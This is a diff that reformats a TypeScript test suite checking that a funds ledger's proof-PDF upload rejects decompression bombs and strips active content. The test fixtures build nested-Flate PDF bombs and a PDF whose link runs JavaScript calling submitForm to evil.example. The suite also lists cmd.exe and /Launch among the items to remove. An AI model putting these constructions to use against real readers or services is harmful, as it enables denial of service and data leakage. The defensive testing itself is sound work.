@@ -11,7 +11,15 @@ import * as ledgerScreen from "~/funds/ledger/routes/admin-funds-ledger";
 import * as ledgerExport from "~/funds/ledger/routes/admin-funds-ledger-export";
 import * as proofRoute from "~/funds/ledger/routes/admin-funds-proof";
 import { addFund } from "~/funds/funds/server/funds.server";
-import { callRoute, callWithRequest, makeContext, makeRequest, multipartRequest, ORIGIN, unwrapData } from "../../../../tests/support/routes";
+import {
+  callRoute,
+  callWithRequest,
+  makeContext,
+  makeRequest,
+  multipartRequest,
+  ORIGIN,
+  unwrapData,
+} from "../../../../tests/support/routes";
 import { signedInStaff } from "../../../../tests/support/builders";
 
 /**
@@ -32,14 +40,37 @@ async function fundWithMoney(name: string) {
   const fund = await addFund({ name, description: "" });
   await getDb()
     .insertInto("donations")
-    .values({ name: "Proof donor", email: "donor@example.org", amount_cents: 10_000, frequency: "One-Time", purpose: name, donated_at: `${TODAY}T10:00:00.000Z` })
+    .values({
+      name: "Proof donor",
+      email: "donor@example.org",
+      amount_cents: 10_000,
+      frequency: "One-Time",
+      purpose: name,
+      donated_at: `${TODAY}T10:00:00.000Z`,
+    })
     .execute();
   return fund;
 }
 
 async function disburseWithProof(context: ReturnType<typeof makeContext>, fundId: number, pdf: Uint8Array) {
-  const fields = { disbursed_on: TODAY, fund_id: String(fundId), amount: "5", category: "", programme: "", region: "", description: "With a PDF", intent: "disburse" };
-  return callWithRequest(ledgerScreen.action, multipartRequest("/admin/funds/ledger?record=1", { ...fields, proof: { data: pdf, name: "receipt.pdf", type: "application/pdf" } }), { context });
+  const fields = {
+    disbursed_on: TODAY,
+    fund_id: String(fundId),
+    amount: "5",
+    category: "",
+    programme: "",
+    region: "",
+    description: "With a PDF",
+    intent: "disburse",
+  };
+  return callWithRequest(
+    ledgerScreen.action,
+    multipartRequest("/admin/funds/ledger?record=1", {
+      ...fields,
+      proof: { data: pdf, name: "receipt.pdf", type: "application/pdf" },
+    }),
+    { context },
+  );
 }
 
 async function newestEntry() {
@@ -80,7 +111,10 @@ async function unpackingBomb(megabytes: number, passes: number): Promise<Buffer>
   const filter = passes === 1 ? "/FlateDecode" : `[${" /FlateDecode".repeat(passes)} ]`;
   return Buffer.concat([
     await receipt(),
-    Buffer.from(`\n90 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n`, "latin1"),
+    Buffer.from(
+      `\n90 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n`,
+      "latin1",
+    ),
     packed,
     Buffer.from("\nendstream\nendobj\n", "latin1"),
   ]);
@@ -94,7 +128,11 @@ async function measured<T>(work: () => Promise<T>) {
   const started = performance.now();
   try {
     const result = await work();
-    return { result, seconds: (performance.now() - started) / 1000, growthMb: (Math.max(peak, process.memoryUsage().rss) - before) / MB };
+    return {
+      result,
+      seconds: (performance.now() - started) / 1000,
+      growthMb: (Math.max(peak, process.memoryUsage().rss) - before) / MB,
+    };
   } finally {
     clearInterval(sampler);
   }
@@ -104,23 +142,29 @@ describe("a PDF that unpacks to far more than it weighs", () => {
   it.each([
     { bomb: "one layer of Flate", megabytes: 320, passes: 1 },
     { bomb: "Flate inside Flate", megabytes: 640, passes: 2 },
-  ])("is refused beside the form, quickly and within a bounded memory: $bomb", { timeout: 30_000 }, async ({ megabytes, passes }) => {
-    const context = (await signedInStaff()).context;
-    const fund = await fundWithMoney(`Bomb Fund ${passes}`);
-    const pdf = await unpackingBomb(megabytes, passes);
-    expect(pdf.length).toBeLessThan(2 * MB);
-    const proofsBefore = await storedProofs();
+  ])(
+    "is refused beside the form, quickly and within a bounded memory: $bomb",
+    { timeout: 30_000 },
+    async ({ megabytes, passes }) => {
+      const context = (await signedInStaff()).context;
+      const fund = await fundWithMoney(`Bomb Fund ${passes}`);
+      const pdf = await unpackingBomb(megabytes, passes);
+      expect(pdf.length).toBeLessThan(2 * MB);
+      const proofsBefore = await storedProofs();
 
-    const { result, seconds, growthMb } = await measured(() => disburseWithProof(context, fund.id, pdf));
-    const reply = unwrapData(result);
-    expect(reply.status).toBe(400);
-    expect((reply.data as Reply).result.error).toEqual({ proof: [UNSAFE] });
-    expect((reply.data as Reply).result.initialValue).toMatchObject({ description: "With a PDF" });
-    expect(seconds).toBeLessThan(10);
-    expect(growthMb).toBeLessThan(200);
-    expect(await storedProofs()).toEqual(proofsBefore);
-    expect(await getDb().selectFrom("disbursements").select("id").where("fund_id", "=", fund.id).execute()).toEqual([]);
-  });
+      const { result, seconds, growthMb } = await measured(() => disburseWithProof(context, fund.id, pdf));
+      const reply = unwrapData(result);
+      expect(reply.status).toBe(400);
+      expect((reply.data as Reply).result.error).toEqual({ proof: [UNSAFE] });
+      expect((reply.data as Reply).result.initialValue).toMatchObject({ description: "With a PDF" });
+      expect(seconds).toBeLessThan(10);
+      expect(growthMb).toBeLessThan(200);
+      expect(await storedProofs()).toEqual(proofsBefore);
+      expect(await getDb().selectFrom("disbursements").select("id").where("fund_id", "=", fund.id).execute()).toEqual(
+        [],
+      );
+    },
+  );
 
   it("refuses a PDF whose objects alone outgrow the reader's memory, and the site reads the next PDF as usual", async () => {
     // Empty dictionaries: a few bytes each on disk, far more once read. With the heap cut to
@@ -131,7 +175,10 @@ describe("a PDF that unpacks to far more than it weighs", () => {
     await writeFile(plain, await receipt());
     await expect(rewritePdf(plain, small)).resolves.toBeUndefined();
     const file = path.join(process.env.UPLOADS_DIR!, "heavy.pdf");
-    await writeFile(file, Buffer.concat([await receipt(), Buffer.from(`\n91 0 obj\n[${"<<>>".repeat(600_000)}]\nendobj\n`, "latin1")]));
+    await writeFile(
+      file,
+      Buffer.concat([await receipt(), Buffer.from(`\n91 0 obj\n[${"<<>>".repeat(600_000)}]\nendobj\n`, "latin1")]),
+    );
     const refusal = await rewritePdf(file, small).catch((error: unknown) => error);
     expect(refusal).toBeInstanceOf(UnreadablePdfError);
     expect((refusal as Error).message).toBe(UNSAFE);
@@ -162,13 +209,16 @@ async function receiptWithActiveContent(): Promise<Buffer> {
   const page = document.addPage();
   page.drawText("Receipt 43: $5.00");
   const { context, catalog } = document;
-  const script = (js: string) => context.register(context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(js) }));
+  const script = (js: string) =>
+    context.register(context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(js) }));
   const rect = [10, 10, 60, 60];
 
   catalog.set(PDFName.of("OpenAction"), script("app.alert('opened')"));
   catalog.set(PDFName.of("AA"), context.obj({ WC: script("app.alert('closed')") }));
   const attached = context.register(context.stream("Haddad family, account 1234", { Type: "EmbeddedFile" }));
-  const fileSpec = context.register(context.obj({ Type: "Filespec", F: PDFString.of("beneficiaries.txt"), EF: { F: attached } }));
+  const fileSpec = context.register(
+    context.obj({ Type: "Filespec", F: PDFString.of("beneficiaries.txt"), EF: { F: attached } }),
+  );
   catalog.set(
     PDFName.of("Names"),
     context.obj({
@@ -181,12 +231,34 @@ async function receiptWithActiveContent(): Promise<Buffer> {
   const popup = context.register(context.obj({ Type: "Annot", Subtype: "Popup", Rect: rect }));
   const annotations: PDFRef[] = [
     context.register(
-      context.obj({ Type: "Annot", Subtype: "Text", Rect: rect, Contents: PDFString.of("Paid in cash"), T: PDFString.of("Field Officer Yusuf"), M: PDFString.of("D:20261120103000Z"), Popup: popup }),
+      context.obj({
+        Type: "Annot",
+        Subtype: "Text",
+        Rect: rect,
+        Contents: PDFString.of("Paid in cash"),
+        T: PDFString.of("Field Officer Yusuf"),
+        M: PDFString.of("D:20261120103000Z"),
+        Popup: popup,
+      }),
     ),
     popup,
     context.register(context.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: rect, FS: fileSpec })),
-    context.register(context.obj({ Type: "Annot", Subtype: "Link", Rect: rect, A: script("this.submitForm('https://evil.example/form')") })),
-    context.register(context.obj({ Type: "Annot", Subtype: "Link", Rect: rect, A: { S: "URI", URI: PDFString.of("https://example.org/receipts"), Next: script("app.alert('next')") } })),
+    context.register(
+      context.obj({
+        Type: "Annot",
+        Subtype: "Link",
+        Rect: rect,
+        A: script("this.submitForm('https://evil.example/form')"),
+      }),
+    ),
+    context.register(
+      context.obj({
+        Type: "Annot",
+        Subtype: "Link",
+        Rect: rect,
+        A: { S: "URI", URI: PDFString.of("https://example.org/receipts"), Next: script("app.alert('next')") },
+      }),
+    ),
   ];
   page.node.set(PDFName.of("Annots"), context.obj(annotations));
   return Buffer.from(await document.save({ useObjectStreams: false }));
@@ -197,16 +269,37 @@ describe("what a stored proof PDF keeps", () => {
     const context = (await signedInStaff()).context;
     const fund = await fundWithMoney("Active Content Fund");
     const original = await receiptWithActiveContent();
-    for (const present of ["app.alert", "cmd.exe", "Haddad", "Field Officer Yusuf", "/OpenAction", "/EmbeddedFile"]) expect(original.includes(present), present).toBe(true);
+    for (const present of ["app.alert", "cmd.exe", "Haddad", "Field Officer Yusuf", "/OpenAction", "/EmbeddedFile"])
+      expect(original.includes(present), present).toBe(true);
 
     expect(((await disburseWithProof(context, fund.id, original)) as Response).status).toBe(302);
     const entry = await newestEntry();
-    const proof = (await callRoute(proofRoute.loader, `/admin/funds/proofs/${entry.id}`, { params: { entryId: String(entry.id) } })) as Response;
+    const proof = (await callRoute(proofRoute.loader, `/admin/funds/proofs/${entry.id}`, {
+      params: { entryId: String(entry.id) },
+    })) as Response;
     expect(proof.status).toBe(200);
     const stored = Buffer.from(await proof.arrayBuffer());
 
-    const gone = ["app.alert", "app.launchURL", "submitForm", "evil.example", "cmd.exe", "Haddad", "beneficiaries.txt", "Field Officer Yusuf", "D:20261120103000Z"];
-    const goneNames = ["/OpenAction", "/JavaScript", "/Launch", "/EmbeddedFile", "/FileAttachment", "/Popup", "/Filespec"];
+    const gone = [
+      "app.alert",
+      "app.launchURL",
+      "submitForm",
+      "evil.example",
+      "cmd.exe",
+      "Haddad",
+      "beneficiaries.txt",
+      "Field Officer Yusuf",
+      "D:20261120103000Z",
+    ];
+    const goneNames = [
+      "/OpenAction",
+      "/JavaScript",
+      "/Launch",
+      "/EmbeddedFile",
+      "/FileAttachment",
+      "/Popup",
+      "/Filespec",
+    ];
     for (const secret of [...gone, ...goneNames]) expect(stored.includes(secret), secret).toBe(false);
     expect(stored.includes("Paid in cash")).toBe(true);
     expect(stored.includes("https://example.org/receipts")).toBe(true);
@@ -220,9 +313,16 @@ describe("what a stored proof PDF keeps", () => {
     }
     const page = reread.getPage(0).node;
     expect(page.lookup(PDFName.of("AA"))).toBeUndefined();
-    const annotations = page.lookup(PDFName.of("Annots"), PDFArray).asArray().map((entry) => reread.context.lookup(entry, PDFDict));
+    const annotations = page
+      .lookup(PDFName.of("Annots"), PDFArray)
+      .asArray()
+      .map((entry) => reread.context.lookup(entry, PDFDict));
     // The link that ran a script stays as a link to nowhere.
-    expect(annotations.map((annotation) => annotation.lookup(PDFName.of("Subtype"))?.toString())).toEqual(["/Text", "/Link", "/Link"]);
+    expect(annotations.map((annotation) => annotation.lookup(PDFName.of("Subtype"))?.toString())).toEqual([
+      "/Text",
+      "/Link",
+      "/Link",
+    ]);
     const [note, scriptedLink, webLink] = annotations as [PDFDict, PDFDict, PDFDict];
     expect([...note.keys()].map(String).sort()).toEqual(["/Contents", "/Rect", "/Subtype", "/Type"]);
     expect(scriptedLink.has(PDFName.of("A"))).toBe(false);
@@ -244,7 +344,9 @@ describe("what a stored proof PDF keeps", () => {
     const reply = unwrapData(await disburseWithProof(context, fund.id, protectedPdf));
     expect(reply.status).toBe(400);
     expect((reply.data as Reply).result.error).toEqual({
-      proof: ["This PDF is protected by a password, so it could not be read. Please save a copy without the password, or upload a photo of it."],
+      proof: [
+        "This PDF is protected by a password, so it could not be read. Please save a copy without the password, or upload a photo of it.",
+      ],
     });
   });
 });
@@ -253,7 +355,13 @@ describe("the proof and the ledger's CSV at their .data addresses", () => {
   /** A loader called as React Router calls it for a data request: `url` has ".data" taken off. */
   async function dataRequest(loader: (args: never) => unknown, pathname: string, params: Record<string, string> = {}) {
     const request = makeRequest(`${pathname}.data`);
-    return (await loader({ request, url: new URL(pathname, ORIGIN), params, context: makeContext(), unstable_pattern: "" } as never)) as Response;
+    return (await loader({
+      request,
+      url: new URL(pathname, ORIGIN),
+      params,
+      context: makeContext(),
+      unstable_pattern: "",
+    } as never)) as Response;
   }
 
   it("answers 404 there, and serves each only at its own address with its download headers", async () => {
@@ -271,11 +379,17 @@ describe("the proof and the ledger's CSV at their .data addresses", () => {
     expect(csvData.status).toBe(404);
     expect(await csvData.text()).not.toContain("With a PDF");
 
-    const proof = (await callRoute(proofRoute.loader, proofPath, { params: { entryId: String(entry.id) } })) as Response;
+    const proof = (await callRoute(proofRoute.loader, proofPath, {
+      params: { entryId: String(entry.id) },
+    })) as Response;
     expect(proof.status).toBe(200);
     expect(proof.headers.get("Cache-Control")).toBe("private, no-store");
     expect(proof.headers.get("Content-Disposition")).toBe(`attachment; filename="proof-${entry.id}.pdf"`);
-    expect(Buffer.from(await proof.arrayBuffer()).subarray(0, 5).toString("latin1")).toBe("%PDF-");
+    expect(
+      Buffer.from(await proof.arrayBuffer())
+        .subarray(0, 5)
+        .toString("latin1"),
+    ).toBe("%PDF-");
     const csv = (await callRoute(ledgerExport.loader, "/admin/funds/ledger.csv")) as Response;
     expect(csv.status).toBe(200);
     expect(csv.headers.get("Cache-Control")).toBe("no-store");
